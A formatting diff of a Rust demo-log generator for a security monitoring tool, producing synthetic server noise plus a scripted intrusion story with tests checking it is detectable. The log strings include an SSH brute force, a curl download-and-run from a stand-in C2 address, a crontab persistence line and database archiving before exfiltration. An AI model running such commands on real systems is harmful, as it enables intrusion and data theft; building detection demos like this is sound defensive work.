@@ -14,19 +14,27 @@
 use std::sync::Arc;
 use std::time::Duration;
 
-use rand::rngs::StdRng;
-use rand::{Rng, SeedableRng};
 use rampart_ingest::{EventSink, IngestMetrics};
 use rampart_model::{Origin, OriginKind, Timestamp};
 use rampart_parse::{Format, Parser, ParserConfig};
+use rand::rngs::StdRng;
+use rand::{Rng, SeedableRng};
 
 pub const ATTACKER_IP: &str = "203.0.113.45";
 pub const C2_IP: &str = "198.51.100.23";
 
 const OPS_USERS: &[&str] = &["alice", "bob", "carol", "deploy"];
 const WEB_PATHS: &[&str] = &[
-    "/", "/index.html", "/login", "/api/v1/orders", "/static/app.js", "/static/site.css",
-    "/api/v1/cart", "/health", "/products/42", "/search?q=shoes",
+    "/",
+    "/index.html",
+    "/login",
+    "/api/v1/orders",
+    "/static/app.js",
+    "/static/site.css",
+    "/api/v1/cart",
+    "/health",
+    "/products/42",
+    "/search?q=shoes",
 ];
 const AGENTS: &[&str] = &[
     "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/120.0 Safari/537.36",
@@ -52,9 +60,17 @@ fn rfc5424(ts: Timestamp, host: &str, app: &str, pid: u32, severity: u8, msg: &s
 
 fn nginx(ts: Timestamp, rng: &mut StdRng) -> String {
     let jt = ts.to_jiff().to_zoned(jiff::tz::TimeZone::UTC);
-    let ip = format!("198.18.{}.{}", rng.random_range(0..4), rng.random_range(2..250));
+    let ip = format!(
+        "198.18.{}.{}",
+        rng.random_range(0..4),
+        rng.random_range(2..250)
+    );
     let path = WEB_PATHS[rng.random_range(0..WEB_PATHS.len())];
-    let status = if rng.random_range(0..50) == 0 { 404 } else { 200 };
+    let status = if rng.random_range(0..50) == 0 {
+        404
+    } else {
+        200
+    };
     let agent = AGENTS[rng.random_range(0..AGENTS.len())];
     // nginx's `access_log syslog:server=…` output: an access-log line inside syslog.
     format!(
@@ -73,7 +89,15 @@ fn cef_flow(ts: Timestamp, src: &str, dst: &str, dpt: u16, bytes_out: u64, act: 
     )
 }
 
-fn process_json(ts: Timestamp, host: &str, user: &str, parent: &str, name: &str, cmd: &str, pid: u32) -> String {
+fn process_json(
+    ts: Timestamp,
+    host: &str,
+    user: &str,
+    parent: &str,
+    name: &str,
+    cmd: &str,
+    pid: u32,
+) -> String {
     serde_json::json!({
         "@timestamp": ts.to_rfc3339(),
         "host": {"name": host},
@@ -93,28 +117,73 @@ fn process_json(ts: Timestamp, host: &str, user: &str, parent: &str, name: &str,
 pub fn noise(ts: Timestamp, rng: &mut StdRng, out: &mut Vec<DemoRecord>) {
     let pid = rng.random_range(1000..60000);
     let line = match rng.random_range(0..10) {
-        0 | 1 | 2 => nginx(ts, rng),
+        0..=2 => nginx(ts, rng),
         3 => {
             let user = OPS_USERS[rng.random_range(0..OPS_USERS.len())];
             let ip = format!("10.0.1.{}", rng.random_range(10..60));
             let host = ["bastion01", "db01", "web01"][rng.random_range(0..3)];
-            rfc5424(ts, host, "sshd", pid, 6, &format!("Accepted publickey for {user} from {ip} port {} ssh2: ED25519 SHA256:x", rng.random_range(30000..65000)))
+            rfc5424(
+                ts,
+                host,
+                "sshd",
+                pid,
+                6,
+                &format!(
+                    "Accepted publickey for {user} from {ip} port {} ssh2: ED25519 SHA256:x",
+                    rng.random_range(30000..65000)
+                ),
+            )
         }
-        4 => rfc5424(ts, ["web01", "db01", "app01"][rng.random_range(0..3)], "CRON", pid, 6, "(root) CMD (/usr/lib/sysstat/sa1 1 1)"),
+        4 => rfc5424(
+            ts,
+            ["web01", "db01", "app01"][rng.random_range(0..3)],
+            "CRON",
+            pid,
+            6,
+            "(root) CMD (/usr/lib/sysstat/sa1 1 1)",
+        ),
         5 => {
-            let src = format!("10.0.{}.{}", rng.random_range(1..4), rng.random_range(10..200));
-            let dst = ["151.101.1.69", "140.82.112.3", "8.8.8.8", "1.1.1.1"][rng.random_range(0..4)];
+            let src = format!(
+                "10.0.{}.{}",
+                rng.random_range(1..4),
+                rng.random_range(10..200)
+            );
+            let dst =
+                ["151.101.1.69", "140.82.112.3", "8.8.8.8", "1.1.1.1"][rng.random_range(0..4)];
             cef_flow(ts, &src, dst, 443, rng.random_range(500..90_000), "allow")
         }
-        6 => rfc5424(ts, "db01", "postgres", pid, 6, "LOG:  checkpoint complete: wrote 42 buffers (0.3%)"),
+        6 => rfc5424(
+            ts,
+            "db01",
+            "postgres",
+            pid,
+            6,
+            "LOG:  checkpoint complete: wrote 42 buffers (0.3%)",
+        ),
         7 => {
             let user = OPS_USERS[rng.random_range(0..OPS_USERS.len())];
             process_json(ts, "app01", user, "bash", "ls", "ls -la /var/www", pid)
         }
-        8 => rfc5424(ts, "ws-017", "kernel", 0, 6, "[UFW BLOCK] IN=eth0 OUT= SRC=10.0.3.44 DST=10.0.3.255 PROTO=UDP SPT=137 DPT=137"),
+        8 => rfc5424(
+            ts,
+            "ws-017",
+            "kernel",
+            0,
+            6,
+            "[UFW BLOCK] IN=eth0 OUT= SRC=10.0.3.44 DST=10.0.3.255 PROTO=UDP SPT=137 DPT=137",
+        ),
         _ => {
             let user = OPS_USERS[rng.random_range(0..OPS_USERS.len())];
-            rfc5424(ts, "app01", "sudo", pid, 5, &format!("{user} : TTY=pts/0 ; PWD=/home/{user} ; USER=root ; COMMAND=/usr/bin/systemctl restart app"))
+            rfc5424(
+                ts,
+                "app01",
+                "sudo",
+                pid,
+                5,
+                &format!(
+                    "{user} : TTY=pts/0 ; PWD=/home/{user} ; USER=root ; COMMAND=/usr/bin/systemctl restart app"
+                ),
+            )
         }
     };
     out.push(DemoRecord { line });
@@ -127,18 +196,38 @@ pub fn attack(start: Timestamp, rng: &mut StdRng) -> Vec<DemoRecord> {
     let step = |t: &mut i64, secs: f64| *t += (secs * 1e9) as i64;
     // 1. brute force: a spray of names, then a run against admin, then success.
     for i in 0..80 {
-        let user = if i < 50 { SPRAY_USERS[i % SPRAY_USERS.len()] } else { "admin" };
-        let invalid = if user == "admin" || user == "root" { "" } else { "invalid user " };
+        let user = if i < 50 {
+            SPRAY_USERS[i % SPRAY_USERS.len()]
+        } else {
+            "admin"
+        };
+        let invalid = if user == "admin" || user == "root" {
+            ""
+        } else {
+            "invalid user "
+        };
         let port = rng.random_range(30000..65000);
         out.push(DemoRecord {
-            line: rfc5424(Timestamp(t), "bastion01", "sshd", 4100 + i as u32, 4,
-                &format!("Failed password for {invalid}{user} from {ATTACKER_IP} port {port} ssh2")),
+            line: rfc5424(
+                Timestamp(t),
+                "bastion01",
+                "sshd",
+                4100 + i as u32,
+                4,
+                &format!("Failed password for {invalid}{user} from {ATTACKER_IP} port {port} ssh2"),
+            ),
         });
         step(&mut t, 1.7);
     }
     out.push(DemoRecord {
-        line: rfc5424(Timestamp(t), "bastion01", "sshd", 4190, 6,
-            &format!("Accepted password for admin from {ATTACKER_IP} port 51022 ssh2")),
+        line: rfc5424(
+            Timestamp(t),
+            "bastion01",
+            "sshd",
+            4190,
+            6,
+            &format!("Accepted password for admin from {ATTACKER_IP} port 51022 ssh2"),
+        ),
     });
     step(&mut t, 40.0);
     // 2. suspicious process tree.
@@ -146,23 +235,50 @@ pub fn attack(start: Timestamp, rng: &mut StdRng) -> Vec<DemoRecord> {
         ("sshd", "bash", "-bash"),
         ("bash", "id", "id"),
         ("bash", "uname", "uname -a"),
-        ("bash", "curl", "curl -fsSL http://198.51.100.23/x.sh -o /tmp/.x/x.sh"),
+        (
+            "bash",
+            "curl",
+            "curl -fsSL http://198.51.100.23/x.sh -o /tmp/.x/x.sh",
+        ),
         ("bash", "sh", "sh /tmp/.x/x.sh"),
         ("sh", "chmod", "chmod +x /tmp/.x/kworkerd"),
-        ("sh", "/tmp/.x/kworkerd", "/tmp/.x/kworkerd --daemon --host 198.51.100.23:443"),
-        ("sh", "crontab", "crontab -l | { cat; echo '@reboot /tmp/.x/kworkerd --daemon'; } | crontab -"),
+        (
+            "sh",
+            "/tmp/.x/kworkerd",
+            "/tmp/.x/kworkerd --daemon --host 198.51.100.23:443",
+        ),
+        (
+            "sh",
+            "crontab",
+            "crontab -l | { cat; echo '@reboot /tmp/.x/kworkerd --daemon'; } | crontab -",
+        ),
         ("bash", "tar", "tar czf /tmp/.x/db.tgz /var/backups/db"),
     ];
     for (i, (parent, name, cmd)) in chain.iter().enumerate() {
         out.push(DemoRecord {
-            line: process_json(Timestamp(t), "bastion01", "admin", parent, name, cmd, 7000 + i as u32),
+            line: process_json(
+                Timestamp(t),
+                "bastion01",
+                "admin",
+                parent,
+                name,
+                cmd,
+                7000 + i as u32,
+            ),
         });
         step(&mut t, 9.0);
     }
     // 3. outbound transfer, in chunks seen by the firewall.
     for _ in 0..6 {
         out.push(DemoRecord {
-            line: cef_flow(Timestamp(t), "10.0.2.15", C2_IP, 443, rng.random_range(250_000_000..400_000_000), "allow"),
+            line: cef_flow(
+                Timestamp(t),
+                "10.0.2.15",
+                C2_IP,
+                443,
+                rng.random_range(250_000_000..400_000_000),
+                "allow",
+            ),
         });
         step(&mut t, 20.0);
     }
@@ -179,7 +295,10 @@ pub fn history(now: Timestamp, rng: &mut StdRng) -> Vec<DemoRecord> {
         noise(Timestamp(t), rng, &mut out);
         t += rng.random_range(300_000_000..1_500_000_000);
     }
-    out.extend(attack(Timestamp(now.nanos() - 40 * 60 * 1_000_000_000), rng));
+    out.extend(attack(
+        Timestamp(now.nanos() - 40 * 60 * 1_000_000_000),
+        rng,
+    ));
     out
 }
 
@@ -189,7 +308,10 @@ pub async fn run(
     metrics: Arc<IngestMetrics>,
     mut shutdown: tokio::sync::watch::Receiver<bool>,
 ) {
-    let parser = match Parser::new(ParserConfig { format: Format::Auto, ..ParserConfig::default() }) {
+    let parser = match Parser::new(ParserConfig {
+        format: Format::Auto,
+        ..ParserConfig::default()
+    }) {
         Ok(p) => p,
         Err(e) => {
             tracing::error!(error = %e, "demo: cannot build a parser");
@@ -214,7 +336,10 @@ pub async fn run(
         }
         counters.accepted(chunk.len() as u64, 0);
     }
-    tracing::info!(events = n, "demo: wrote two hours of history with an attack story; live noise follows");
+    tracing::info!(
+        events = n,
+        "demo: wrote two hours of history with an attack story; live noise follows"
+    );
     let mut tick = tokio::time::interval(Duration::from_secs(1));
     loop {
         tokio::select! {
@@ -255,18 +380,36 @@ mod tests {
             })
             .count();
         assert_eq!(failures, 80);
-        assert!(events.iter().any(|e| e.get_str("event.outcome").as_deref() == Some("success")
-            && e.get_str("user.name").as_deref() == Some("admin")));
-        assert!(events.iter().any(|e| e.get_str("process.name").as_deref() == Some("curl")
-            && e.get_str("host.name").as_deref() == Some("bastion01")));
-        assert!(events.iter().any(|e| e.get_str("destination.ip").as_deref() == Some(C2_IP)));
-        assert!(events.iter().all(|e| e.parse_error.is_none()), "every demo line parses");
+        assert!(
+            events
+                .iter()
+                .any(|e| e.get_str("event.outcome").as_deref() == Some("success")
+                    && e.get_str("user.name").as_deref() == Some("admin"))
+        );
+        assert!(
+            events
+                .iter()
+                .any(|e| e.get_str("process.name").as_deref() == Some("curl")
+                    && e.get_str("host.name").as_deref() == Some("bastion01"))
+        );
+        assert!(
+            events
+                .iter()
+                .any(|e| e.get_str("destination.ip").as_deref() == Some(C2_IP))
+        );
+        assert!(
+            events.iter().all(|e| e.parse_error.is_none()),
+            "every demo line parses"
+        );
         let total: u64 = events
             .iter()
             .filter(|e| e.get_str("destination.ip").as_deref() == Some(C2_IP))
             .filter_map(|e| e.get_str("source.bytes")?.parse::<u64>().ok())
             .sum();
-        assert!(total > 1_000_000_000, "the exfiltration is visible in source.bytes");
+        assert!(
+            total > 1_000_000_000,
+            "the exfiltration is visible in source.bytes"
+        );
     }
 
     #[test]
@@ -275,7 +418,11 @@ mod tests {
         let mut rng = StdRng::seed_from_u64(2);
         let mut records = Vec::new();
         for i in 0..500 {
-            noise(Timestamp::from_secs(1_700_000_000 + i), &mut rng, &mut records);
+            noise(
+                Timestamp::from_secs(1_700_000_000 + i),
+                &mut rng,
+                &mut records,
+            );
         }
         for r in &records {
             let ev = parser.parse(r.line.as_bytes(), Origin::new(OriginKind::Demo, "demo"));
